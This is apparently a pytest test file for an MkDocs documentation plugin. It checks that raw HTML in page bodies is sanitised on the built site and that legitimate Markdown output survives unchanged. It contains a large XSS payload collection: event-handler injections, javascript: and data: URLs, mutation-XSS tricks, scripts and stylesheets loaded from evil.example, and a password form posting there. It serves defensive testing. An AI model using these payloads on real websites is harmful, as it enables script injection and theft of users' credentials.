"""Raw HTML in document bodies is sanitised on the built site; legitimate Markdown output survives."""

import html
import itertools
import re

import pytest
from bs4 import BeautifulSoup

from conftest import MKDOCS_YML, build_site, run_cli
from samples import SHEET, with_metrics

EXTENSIONS = """markdown_extensions:
  - abbr
  - admonition
  - attr_list
  - def_list
  - footnotes
  - md_in_html
  - tables
  - toc:
      permalink: true
  - pymdownx.details
  - pymdownx.highlight:
      anchor_linenums: true
  - pymdownx.inlinehilite
  - pymdownx.superfences:
      custom_fences:
        - name: mermaid
          class: mermaid
          format: !!python/name:pymdownx.superfences.fence_code_format
  - pymdownx.tabbed:
      alternate_style: true
  - pymdownx.tasklist:
      custom_checkbox: true
  - pymdownx.emoji:
      emoji_index: !!python/name:material.extensions.emoji.twemoji
      emoji_generator: !!python/name:material.extensions.emoji.to_svg
  - pymdownx.mark
  - pymdownx.keys
"""
CONFIG = MKDOCS_YML + EXTENSIONS
RAW = CONFIG.replace("  - stratdocs\n", "  - stratdocs:\n      sanitize: false\n")

JS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java&#x09;script:alert(1)",
      "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "\x01javascript:alert(1)",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
      "vbscript:msgbox(1)"]
HANDLER_TAGS = ["img src=x", "svg", "body", "div", "a href=x", "input autofocus", "details open", "video src=x",
                "audio src=x", "iframe", "marquee", "select autofocus", "textarea autofocus", "button", "span", "p",
                "table", "math", "style", "image src=x", "object data=x", "isindex", "frameset", "animate"]
HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onbegin", "OnClick", "onpointerenter"]
URL_PLACES = ['<a href="{u}">x</a>', '<img src="{u}">', '<img srcset="{u} 1x">',
              '<form action="{u}"><button>x</button></form>', '<button formaction="{u}">x</button>',
              '<video poster="{u}"></video>', '<table background="{u}"><tr><td>x</td></tr></table>',
              '<svg><a xlink:href="{u}"><text>x</text></a></svg>', '<object data="{u}"></object>',
              '<iframe src="{u}"></iframe>',
              '<embed src="{u}">', '<link rel="stylesheet" href="{u}">', '[md link]({u})', '![md image]({u})',
              '[ref link][r]\n\n[r]: {u}', '<blockquote cite="{u}">q</blockquote>', '<a href="x">{{ href="{u}" }}</a>']
OTHERS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>", "<<script>alert(1);//<</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    '<div style="background:url(javascript:alert(1))">x</div>', '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/)}</style>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<object data=x.swf></object>", "<embed src=x.swf>",
    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/"><input name=p type=password><input type=submit></form>',
    "<!-- --><script>alert(1)</script> -->", '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[><script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>", "<textarea></textarea><img src=x onerror=alert(1)>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>', "<xmp><img src=x onerror=alert(1)></xmp>",
    "Text{ onclick=\"alert(1)\" }", "[link](page.md){ onmouseover=alert(1) }", "# Heading { onclick=alert(1) }",
    "![img](x.png){ onerror=alert(1) }", '<div markdown onclick="alert(1)">**md in html**</div>',
    "# &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;", '<a href="x" data-md-component="content">x</a>',
    '<input type="image" src=x onerror=alert(1)>', '<a href="https://example.org" target=_blank>ok</a>',
    "![pixel](https://evil.example/p.png)", '<img src="//evil.example/p.png">', "<img src=' HTTP://evil.example/'>",
]


def hostile_bodies() -> list[str]:
    bodies = [f"<{tag} {handler}=alert(1)>x</{tag.split()[0]}>"
              for tag, handler in itertools.product(HANDLER_TAGS, HANDLERS)]
    bodies += [place.format(u=url) for place, url in itertools.product(URL_PLACES, JS)]
    return bodies + OTHERS


def pages(bodies: list[str], per_page: int = 8) -> dict[str, str]:
    """Bodies grouped into ordinary pages and strategy pages (after the sheet's own fields)."""
    files = {}
    for n in range(0, len(bodies), per_page):
        chunk = "\n\n".join(bodies[n:n + per_page])
        files[f"plain-{n:04d}.md"] = f"# Plain {n}\n\n{chunk}\n"
        if n % (4 * per_page) == 0:
            files[f"sheet-{n:04d}.md"] = SHEET.replace("online-claim-completion", f"sheet-{n}") + "\n" + chunk + "\n"
    return files


BAD_URL = re.compile(r"^\s*(javascript|data|vbscript)\s*:", re.IGNORECASE)
URL_ATTRS = ("href", "src", "srcset", "action", "formaction", "poster", "background", "data", "cite", "xlink:href")


def problems(soup: BeautifulSoup) -> list[str]:
    """Everything on a built page that a document body could have used to run code or leave the site."""
    found = []
    for el in soup.find_all(True):
        for name, raw in el.attrs.items():
            value = " ".join(raw) if isinstance(raw, list) else raw
            if name.lower().startswith("on"):
                found.append(f"handler {name} on <{el.name}>")
            if name.lower() in URL_ATTRS and BAD_URL.match(html.unescape(value).replace("\x01", "")):
                found.append(f"{name}={value!r} on <{el.name}>")
            if name.lower() == "style" and re.search(r"url\(|expression", value, re.IGNORECASE):
                found.append(f"style {value!r}")
            if name.lower().startswith("data-md-") and el.find_parent("article"):
                found.append(f"{name} in the article")
    for script in soup.find_all("script"):
        if "alert" in script.get_text() or (script.get("src") and "evil" in script["src"]):
            found.append(f"script {str(script)[:80]}")
    article = soup.select_one("article")
    off_site = re.compile(r"^\s*([a-z][a-z0-9+.-]*:|//)", re.IGNORECASE)  # the site loads nothing from outside
    found += [f"off-site src {el['src']!r}" for el in article.find_all(src=True) if off_site.match(el["src"])]
    for tag in ("script", "iframe", "object", "embed", "base", "form", "style", "link", "meta", "frame", "frameset",
                "template", "textarea", "button", "math", "animate", "use", "foreignobject"):
        found += [f"<{tag}> in the article" for _ in article.find_all(tag)]
    found += [f"meta refresh {m}"
              for m in soup.find_all("meta", attrs={"http-equiv": re.compile("refresh", re.IGNORECASE)})]
    found += [f"base {b}" for b in soup.find_all("base")]
    return found


# Titles reach <title>, the nav of every page and the search index, outside the page's content.
TITLES = {
    "titles/h1.md": "# &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n\nThe first heading is the title.\n",
    "titles/h1-tags.md": "# <img src=x onerror=alert(1)> `</title><script>alert(1)</script>`\n",
    "titles/meta.md": "---\ntitle: '</title><script>alert(1)</script>'\ndescription: '\"><script>alert(1)</script>'\n"
                      "subtitle: <img src=x onerror=alert(1)>\n---\nBody.\n",
    "titles/&lt;img src=x onerror=alert(1)&gt;.md": "A page titled by its file name.\n",
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    files = with_metrics({"index.md": "# Home\n", **pages(hostile_bodies()), **TITLES})
    result = build_site(root, files, mkdocs_yml=CONFIG)
    assert result.returncode == 0, result.stderr
    return root / "site", files


def test_hostile_bodies_are_sanitised_on_every_page(hostile_site):
    site, files = hostile_site
    assert len(hostile_bodies()) > 250
    for name in files:
        if name.endswith(".md") and not name.startswith(("metrics/", "index")):
            soup = BeautifulSoup((site / name.removesuffix(".md") / "index.html").read_text(encoding="utf-8"),
                                 "html.parser")
            assert problems(soup) == [], name
    for page in site.rglob("*.html"):  # the nav, titles and generated pages of every page too
        assert problems(BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")) == [], page


def test_strategy_pages_keep_their_blocks_under_a_hostile_body(hostile_site):
    site, _ = hostile_site
    soup = BeautifulSoup((site / "sheet-0000/index.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.select_one(".sd-header") and soup.select_one(".sd-statement") and soup.select(".sd-signals tbody tr")


LEGIT = """# Legit page

Some *em*, **strong**, `code`, ==mark==, ++ctrl+alt+del++ and an icon :material-check:.

The HTML spec is maintained by the W3C.

*[HTML]: Hyper Text Markup Language

!!! note "A note"
    Admonition body with a [relative link](other.md) and an [external one](https://example.org){ target=_blank }.

??? tip "Folded"
    Details body.

???+ warning "Open"
    Open details body.

| left | centre | right |
|:-----|:------:|------:|
| 1    | 2      | 3     |

```python
def f(x):
    return x + 1  # a comment
```

```mermaid
graph LR
  A["a &amp; b"] --> B
```

- [x] done
- [ ] to do

A claim with a footnote[^1].

[^1]: The footnote, with `code`.

=== "Tab one"
    One

=== "Tab two"
    Two

Term
:   Definition

![A picture](pic.png){ width="120" loading=lazy }

<div class="sd-note" markdown>
**Markdown inside HTML**, with a <abbr title="title">tag</abbr>, <kbd>Ctrl</kbd> and <mark>mark</mark>.
</div>

<details><summary>HTML details</summary>Hidden text</details>

## Second heading { #custom-id .custom-class }

Line `#!python range(3)` inline.
"""


def signature(soup: BeautifulSoup) -> list:
    """Every element of the article with its attributes (style spacing and inserted tbody aside)."""
    sig = []
    for el in soup.select_one("article").find_all(True):
        if el.name == "tbody":
            continue
        attrs = {k: " ".join(v) if isinstance(v, list) else v for k, v in el.attrs.items()}
        if "style" in attrs:
            attrs["style"] = attrs["style"].replace(" ", "").rstrip(";")
        sig.append((el.name, sorted(attrs.items())))
    return sig


@pytest.mark.parametrize("name,body", [("legit", LEGIT), ("sheet", SHEET + "\n" + LEGIT.replace("# Legit page", ""))])
def test_legitimate_markdown_survives_exactly(tmp_path, name, body):
    files = with_metrics({"index.md": "# Home\n", "page.md": body, "other.md": "# Other\n", "pic.png": b"PNG"})
    built = {}
    for mode, config in (("sanitised", CONFIG), ("raw", RAW)):
        result = build_site(tmp_path / mode, files, strict=True, mkdocs_yml=config)
        assert result.returncode == 0, result.stderr
        built[mode] = BeautifulSoup((tmp_path / mode / "site/page/index.html").read_text(encoding="utf-8"),
                                    "html.parser")
    clean, raw = built["sanitised"], built["raw"]
    assert signature(clean) == signature(raw)
    assert clean.select_one("article").get_text() == raw.select_one("article").get_text()
    for selector in ("div.admonition.note", "details.tip summary", "details.warning[open]", "th[style]",
                     ".highlight span.k", "pre.mermaid", "input[type=checkbox][checked][disabled]",
                     "sup a.footnote-ref", "a.footnote-backref", "abbr[title]", ".tabbed-set input[type=radio]",
                     "svg[viewBox] path[d]", "a.headerlink[href]", "img[src][alt][width]", "a[target=_blank]",
                     "dl dd", "kbd", "mark", "h2#custom-id.custom-class", "code.highlight"):
        assert clean.select(selector), selector
    assert any("A[\"a &amp; b\"] --> B" in pre.get_text() for pre in clean.select("pre.mermaid:not(.sd-diagram)"))


def test_the_option_turns_it_off_and_lint_accepts_it(tmp_path):
    files = with_metrics({"index.md": "# Home\n", "page.md": '# Page\n\n<iframe src="embed.html"></iframe>\n'})
    result = build_site(tmp_path, files, strict=True, mkdocs_yml=RAW)
    assert result.returncode == 0, result.stderr
    soup = BeautifulSoup((tmp_path / "site/page/index.html").read_text(encoding="utf-8"), "html.parser")
    assert soup.select_one("article iframe[src]")
    assert run_cli("lint", cwd=tmp_path).returncode == 0
